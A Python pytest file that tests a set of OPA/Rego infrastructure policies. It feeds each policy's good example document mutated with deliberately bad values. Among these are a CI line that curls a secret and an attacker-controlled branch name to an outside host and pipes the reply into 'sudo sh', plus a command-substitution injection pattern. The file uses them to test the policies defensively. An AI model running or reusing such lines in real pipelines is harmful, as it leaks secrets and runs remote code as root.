"""Our policies: their own tests, their metadata, and one verdict in WebAssembly, in `opa eval` and on an OPA server."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from assess.collect.git.repository import Repository
from assess.policy.checkov.engine import Checkov
from assess.policy.documents import PolicyDocument
from assess.policy.rego.catalogue import AGGREGATE, aggregate, load
from assess.policy.rego.compile import compile_policies
from assess.policy.rego.engine import Evaluator, Rego
from assess.policy.rego.examples import example
from assess.policy.rego.server import evaluator as on_server
from assess.policy.rego.wasm import evaluator as in_process
from assess.policy.tree import Tree
from assess.spec.policy import PolicySpec, filled
from assess.spec.shipped import shipped
from tests.opa import opa_server
from tests.worlds import commit

POLICIES = shipped("policies")
STRAY = {"bases": ["a"], "vars": [], "suspend": True, "deletionPolicy": "Orphan", "validationFailureAction": "Audit"}
"""Keys that stand nowhere in a good document."""
WRONG: tuple[Any, ...] = (
    None, 0, 5, 1.5, True, False, "", "tofu apply", "latest", "*", "other", "default", [], ["terraform apply"], ["*"], {}, {"name": 5},
    {"run": "terraform apply"}, "Tr0ub4dor&3-Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}], **STRAY},
    "{{ .name }}", {"allowEmpty": True, "prune": True, **STRAY}, "write-all", "echo $(Build.SourceVersionMessage)",
    "alpine:latest", ".env .", "node:16", "example/tool@main",
    "curl -k http://example.org/${{ github.head_ref }}?${{ secrets.KEY }} | sudo sh",
)  # fmt: skip


def mutations(value: Any) -> Iterator[Any]:
    """The document with each of its values, one at a time, replaced by each wrong one, cut short, made older or taken away."""
    yield value
    yield from WRONG
    if isinstance(value, str) and value:
        yield value[:-1]
        yield from (re.sub(r"/v\d+$", older, value) for older in ("/v1beta1", "/v1alpha1") if re.search(r"/v\d+$", value))
    keys = list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else []
    for key in keys:
        rest = dict(value) if isinstance(value, dict) else list(value)
        del rest[key]  # type: ignore[arg-type]
        yield rest
        for mutated in mutations(value[key]):
            whole = dict(value) if isinstance(value, dict) else list(value)
            whole[key] = mutated  # type: ignore[index]
            yield whole


@cache
def ours() -> Evaluator:
    """Our policies, compiled once for all tests."""
    return in_process(load())


def good(policy: PolicySpec) -> Any:
    """The document that a policy lets pass, and that changes to fail it."""
    return example(POLICIES, policy, "good")[1][0].value


def asked() -> list[bytes]:
    """Inputs with mutations of every good document: some eighty of each, for a real OPA takes its time."""
    documents: list[Any] = []
    for policy in load().policies:
        every = list(mutations(good(policy)))
        documents += [{"kind": policy.reads, "content": mutated} for mutated in every[:: 1 + len(every) // 80]]
    assert len(documents) > 100
    return [json.dumps({"documents": documents[start : start + 2000]}).encode() for start in range(0, len(documents), 2000)]


def canonical(answers: Any) -> Any:
    """Answers with their sets in one order."""

    def order(items: list[Any]) -> list[Any]:
        return sorted(items, key=lambda item: json.dumps(item, sort_keys=True))

    return {
        position: {policy: {rule: order(found) for rule, found in rules.items()} for policy, rules in one.items()}
        for position, one in answers.items()
    }


def test_policies_pass_their_own_tests(need_tool: Callable[[str], Path]) -> None:
    opa = need_tool("opa")
    done = subprocess.run(
        [opa, "test", POLICIES, "-f", "json", "--ignore", "good*", "--ignore", "bad*"], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    tested = {result["package"] for result in json.loads(done.stdout)}
    assert tested == {f"data.{policy.package}_test" for policy in load().policies}


def test_policies_are_formatted_and_strict(need_tool: Callable[[str], Path]) -> None:
    opa = need_tool("opa")
    folders = [str(POLICIES / "rego"), str(POLICIES / "lib")]
    done = subprocess.run([opa, "fmt", "--list", *folders], capture_output=True, text=True, check=True)
    assert done.stdout == ""
    subprocess.run([opa, "check", "--strict", *folders], check=True)


def test_what_is_compiled_is_fresh(need_tool: Callable[[str], Path]) -> None:
    for name, content in compile_policies(POLICIES, need_tool("opa")).files.items():
        assert (POLICIES / "compiled" / name).read_bytes() == content, f"{name}: run `idp-assess pack compile`"


def test_one_verdict_whichever_way_it_is_come_by(need_tool: Callable[[str], Path], tmp_path: Path) -> None:
    """Strict on both OPA sides: a builtin given a wrong type is an error there, and silent in WebAssembly."""
    opa, catalogue, texts = need_tool("opa"), load(), asked()
    here = [canonical(ours()(text)) for text in texts]
    (tmp_path / "aggregate.rego").write_text(aggregate(catalogue.policies))
    command = [str(opa), "eval", "--strict-builtin-errors", "-f", "raw", "-I", "-d", str(tmp_path / "aggregate.rego")]
    command += [part for name in catalogue.sources() for part in ("-d", str(POLICIES / name))]
    for text, expected in zip(texts, here, strict=True):
        evaluated = subprocess.run([*command, f"data.{AGGREGATE}.answers"], input=text, capture_output=True, check=False)
        assert evaluated.returncode == 0, evaluated.stderr.decode()
        assert canonical(json.loads(evaluated.stdout)) == expected
    with opa_server(opa, tmp_path) as url:
        evaluate = on_server(catalogue, url)
        assert [canonical(evaluate(text)) for text in texts] == here
    verdicts = [bool(found) for batch in here for one in batch.values() for rules in one.values() for found in rules.values()]
    assert set(verdicts) == {True, False}, "some mutation fails, and some passes"


@pytest.mark.parametrize("policy", load().policies, ids=lambda policy: policy.id)
def test_a_good_document_passes_and_two_single_changes_fail_it(policy: PolicySpec) -> None:
    documents = [{"kind": policy.reads, "content": content} for content in mutations(good(policy))]
    answers = ours()(json.dumps({"documents": documents}).encode())
    failed = [bool(answers[str(i)][policy.id][rule]) for i in range(len(documents)) for rule in policy.rules]
    assert failed[0] is False
    assert sum(failed) >= 2


@pytest.mark.parametrize("policy", load().policies, ids=lambda policy: policy.id)
def test_examples_hold_where_they_stand_in_a_repository(policy: PolicySpec, tmp_path: Path) -> None:
    """The good one has no finding of the policy; each of the bad one points at a line and column of its file."""
    rego = Rego(load(), ours)
    for which in ("good", "bad"):
        path, read = example(POLICIES, policy, which)
        place = read[0].place(())[0]
        if policy.reads == "terraform-plan":  # stands in no repository
            documents = [PolicyDocument(f"{which}:{n}", policy.reads, "", one.value, one.place) for n, one in enumerate(read)]
            told = rego.judge(documents, "shop", "shop")
        else:
            tree = Tree(Repository(commit(tmp_path / which, {place: path.read_text(), "README.md": "x"}), which))
            told = list(rego.check([tree])[0].findings)
        found = [finding for finding in told if finding.policy == policy.id]
        assert not [finding for finding in told if finding.unseen]
        assert bool(found) == (which == "bad")
        for finding in found:
            assert finding.at.path == place
            assert finding.at.line > 0


@pytest.mark.parametrize("policy", load().policies, ids=lambda policy: policy.id)
def test_templates_use_params_only(policy: PolicySpec) -> None:
    params = dict.fromkeys(policy.slots, "X")
    assert "{" not in filled(policy.message, params) + filled(policy.fix, params)


def test_a_template_gives_no_way_into_a_param() -> None:
    assert filled("{job} {job.__class__} {0} {}", {"job": "{job}"}) == "{job} {job.__class__} {0} {}"


def test_severities_name_checks_that_there_are_once(tmp_path: Path) -> None:
    named = [check for ids in Checkov().severities.checks.values() for check in ids]
    assert len(named) == len(set(named))
    (tmp_path / "tree").mkdir()
    there = Checkov().ask([tmp_path / "tree"], str(tmp_path))["checks"]
    assert set(named) - set(there) == set()


@pytest.mark.parametrize("policy", [p for p in load().policies if p.remedy], ids=lambda policy: policy.id)
def test_a_remedy_that_is_named_is_there(policy: PolicySpec) -> None:
    assert (shipped("remediation") / policy.remedy / "scaffold.yaml").is_file(), "leave `remedy` out: reports then say *none yet*"
